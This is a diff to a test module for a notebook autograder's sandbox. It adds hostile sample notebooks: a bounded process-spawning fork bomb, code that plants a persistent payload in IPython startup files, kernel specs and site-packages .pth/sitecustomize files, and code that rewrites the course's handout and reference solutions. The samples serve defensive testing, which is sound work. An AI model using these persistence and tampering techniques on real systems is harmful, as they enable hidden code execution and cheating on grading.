@@ -7,7 +7,10 @@ correct functions (loops, as a student writes them), never the reference solutio
 
 Placeholders the test replaces before grading: ``__GRADER_OUT__`` (the absolute ``--out``
 folder), ``__GRADER_REPO__`` (this repository), ``__GRADER_SUBMISSIONS__`` (the folder of
-submissions being graded) and ``__GRADER_PORT__`` (a TCP port the test listens on).
+submissions being graded), ``__GRADER_PORT__`` (a TCP port the test listens on), and for the
+attacks that plant code for later runs, ``__GRADER_HOME__`` and ``__GRADER_IPYTHONDIR__`` (the
+grader's home and IPython folder) and ``__GRADER_EVIDENCE__`` (a folder where planted code that
+ever runs leaves a file).
 """
 
 from __future__ import annotations
@@ -505,32 +508,31 @@ attack(
     "11_fork_bomb",
     """# Attack 11: a (bounded) fork bomb
 
-**Attack:** after the (correct) functions are defined, a cell forks children that sleep, until
-forking fails, catching the error; it stops anyway at 400 children or after 3 s (the bound keeps
-an unsandboxed test run from hurting the machine, and the cell within its time limit).
+**Attack:** after the (correct) functions are defined, a cell starts child processes that sleep
+as fast as it can, until that fails, catching the error; it stops anyway at 400 children or
+after 3 s (the bound keeps an unsandboxed test run from hurting the machine, and the cell within
+its time limit). It starts them with `os.posix_spawn`, which costs the same however big the
+kernel is: forking a kernel copies its memory map, and on a busy machine 3 s of forking may not
+reach the limit.
 
 **Verdict it must get:** full marks, 10/10, with status `salvaged`: in the sandbox the process
-limit stops the forks, and the kernel is left unable to send its messages intact, so the
+limit stops the children, and the kernel is left unable to send its messages intact, so the
 functions are graded after a restart that runs only the definitions. The batch finishes and no
 child is left running.""",
     CORRECT,
     '''\
 import os
+import shutil
 import time
 
+sleep = shutil.which("sleep")
 children = []
 stop = time.monotonic() + 3
 try:
     while len(children) < 400 and time.monotonic() < stop:
-        pid = os.fork()
-        if pid == 0:
-            try:
-                time.sleep(1000)
-            finally:
-                os._exit(0)
-        children.append(pid)
+        children.append(os.posix_spawn(sleep, ["sleep", "1000"], os.environ))
 except OSError as error:
-    print(f"fork failed after {len(children)} children: {error}")
+    print(f"could not start a process after {len(children)} children: {error}")
 print(len(children), "children sleeping")
 ''',
 )
@@ -710,6 +712,174 @@ try:
 except OSError as error:
     print("the folder stays:", error)
 ''',
+)
+
+# What the planting attacks (16 to 18) plant: code that, in any later kernel, answers with the
+# correct functions after every cell, and in any process at all leaves a file in the evidence
+# folder. It is harmless where it runs, and the test removes whatever it finds planted.
+PAYLOAD = f"""\
+# Planted by a notebook: every later notebook gets the right answers.
+import os as _os, sys as _sys, threading as _threading, time as _time
+
+try:
+    with open(_os.path.join("__GRADER_EVIDENCE__", f"ran-in-{{_os.getpid()}}"), "w") as _note:
+        _note.write(" ".join(_sys.argv))
+except OSError:
+    pass
+
+_ANSWERS = {CORRECT!r}
+
+
+def _answer_after_every_cell():
+    for _ in range(600):
+        _ipython = _sys.modules.get("IPython")
+        _shell = _ipython.get_ipython() if _ipython else None
+        if _shell is not None:
+            _shell.events.register("post_run_cell", lambda *_: exec(_ANSWERS, _shell.user_ns))
+            return
+        _time.sleep(0.1)
+
+
+_threading.Thread(target=_answer_after_every_cell, daemon=True).start()
+"""
+
+PLANTER = f"""\
+import os
+import sys
+
+HOME = "__GRADER_HOME__"  # the test writes the grader's own home here (this kernel has another)
+IPYTHONDIR = "__GRADER_IPYTHONDIR__"  # and the IPython folder the grader was started with
+PAYLOAD = {PAYLOAD!r}
+planted, refused = [], []
+
+
+def plant(path, text, append=False):
+    \"\"\"Write (or add) ``text`` to the file at ``path``, making its folders.\"\"\"
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "a" if append else "w") as handle:
+            handle.write(text)
+        planted.append(path)
+    except OSError as error:
+        refused.append(f"{{path}}: {{type(error).__name__}}")
+"""
+
+REPORT = 'print("planted:", *planted, sep="\\n  ")\nprint("refused:", *refused, sep="\\n  ")\n'
+
+attack(
+    "16_plants_startup_files",
+    """# Attack 16: plant IPython startup files and a kernel spec for later notebooks
+
+**Attack:** the notebook writes code that answers with the correct functions after every cell
+(and leaves a file in the test's evidence folder wherever it runs) as an IPython startup file and
+as `ipython_kernel_config.py`, in `~/.ipython` of the grader's home (the test writes it into
+`HOME`), in the grader's `$IPYTHONDIR` (`IPYTHONDIR`), in its own kernel's IPython folder and in
+the Python environment's `etc/ipython`; and it writes a `python3` kernel spec that runs the same
+code first, where Jupyter looks for kernel specs (`~/.local/share/jupyter/kernels`, the
+environment's `share/jupyter/kernels`, the IPython folders). Its own functions are wrong.
+
+**Verdict it must get:** 0/10, in the sandbox; and every later kernel starts clean: the handout,
+graded after this batch, still earns 0, and no planted file is left anywhere.""",
+    functions(wrong=("get_subimages", "convolve", "template_match")),
+    PLANTER,
+    """\
+import json
+
+from IPython.paths import get_ipython_dir
+
+ipython_folders = {os.path.join(HOME, ".ipython"), IPYTHONDIR, get_ipython_dir()}
+for folder in sorted(ipython_folders):
+    plant(os.path.join(folder, "profile_default", "startup", "00-answers.py"), PAYLOAD)
+    plant(os.path.join(folder, "profile_default", "ipython_kernel_config.py"), PAYLOAD, True)
+environment = os.path.join(sys.prefix, "etc", "ipython")  # read by every IPython of this Python
+plant(os.path.join(environment, "startup", "00-answers.py"), PAYLOAD)
+plant(os.path.join(environment, "ipython_kernel_config.py"), PAYLOAD, True)
+
+launch = ("import sys; exec(open(sys.argv.pop(1)).read()); "
+          "from ipykernel.kernelapp import launch_new_instance; launch_new_instance()")
+for kernels in sorted({os.path.join(HOME, ".local", "share", "jupyter", "kernels"),
+                       os.path.join(sys.prefix, "share", "jupyter", "kernels"),
+                       *(os.path.join(folder, "kernels") for folder in ipython_folders)}):
+    answers = os.path.join(kernels, "python3", "answers.py")
+    plant(answers, PAYLOAD)
+    spec = {"argv": [sys.executable, "-c", launch, answers, "-f", "{connection_file}"],
+            "display_name": "Python 3", "language": "python"}
+    plant(os.path.join(kernels, "python3", "kernel.json"), json.dumps(spec))
+""" + REPORT,
+)
+
+attack(
+    "17_plants_site_packages",
+    """# Attack 17: plant code in site-packages for every later Python
+
+**Attack:** the notebook writes code that answers with the correct functions after every cell
+(and leaves a file in the test's evidence folder wherever it runs) into every site-packages
+folder of its Python and into the user site of the grader's home (the test writes it into
+`HOME`): as a module with a `.pth` file that imports it, and in `sitecustomize.py` and
+`usercustomize.py`. Python runs all of these at start, in later kernels and in the grader
+itself. Its own functions are wrong.
+
+**Verdict it must get:** 0/10, in the sandbox; and every later kernel starts clean: the handout,
+graded after this batch, still earns 0, and no planted file is left anywhere.""",
+    functions(wrong=("get_subimages", "convolve", "template_match")),
+    PLANTER,
+    """\
+import site
+
+version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
+folders = {*site.getsitepackages(), site.getusersitepackages(),
+           os.path.join(HOME, ".local", "lib", version, "site-packages")}
+for folder in sorted(folders):
+    plant(os.path.join(folder, "zz_answers.py"), PAYLOAD)
+    plant(os.path.join(folder, "zz_answers.pth"), "import zz_answers\\n")
+    plant(os.path.join(folder, "sitecustomize.py"), PAYLOAD, True)
+    plant(os.path.join(folder, "usercustomize.py"), PAYLOAD, True)
+""" + REPORT,
+)
+
+attack(
+    "18_edits_the_checkout",
+    """# Attack 18: edit the course's own files
+
+**Attack:** in the repository (the test writes its path into `REPO`) and wherever the
+`assignments` package is installed, the notebook fills in the handout's exercise cells with
+correct functions (so that whoever is graded on it next scores), and adds code that leaves a file
+in the test's evidence folder to the lesson's definition (`assignments/convolutions/__init__.py`)
+and to the reference solutions (`solutions/convolutions.py`), which the grader imports. Its own
+functions are wrong.
+
+**Verdict it must get:** 0/10, in the sandbox; and the course's files are untouched: the handout,
+graded after this batch, still earns 0, and no planted file is left anywhere.""",
+    functions(wrong=("get_subimages", "convolve", "template_match")),
+    PLANTER,
+    f"""\
+import json
+
+REPO = "__GRADER_REPO__"  # the test writes the repository's path here
+ANSWERS = {CORRECT!r}
+checkouts = {{REPO}}
+try:
+    import assignments
+
+    checkouts.add(os.path.dirname(os.path.dirname(os.path.abspath(assignments.__file__))))
+except ImportError as error:
+    print("no assignments package:", error)
+
+for checkout in sorted(checkouts):
+    plant(os.path.join(checkout, "solutions", "convolutions.py"), PAYLOAD, True)
+    plant(os.path.join(checkout, "assignments", "convolutions", "__init__.py"), PAYLOAD, True)
+    handout = os.path.join(checkout, "assignments", "convolutions", "convolutions.ipynb")
+    try:
+        with open(handout) as handle:
+            notebook = json.load(handle)
+    except (OSError, ValueError) as error:
+        refused.append(f"{{handout}}: {{type(error).__name__}}")
+        continue
+    for cell in notebook["cells"]:
+        if any(tag.startswith("exercise:") for tag in cell["metadata"].get("tags", [])):
+            cell["source"] = ANSWERS
+    plant(handout, json.dumps(notebook))
+""" + REPORT,
 )
 
 
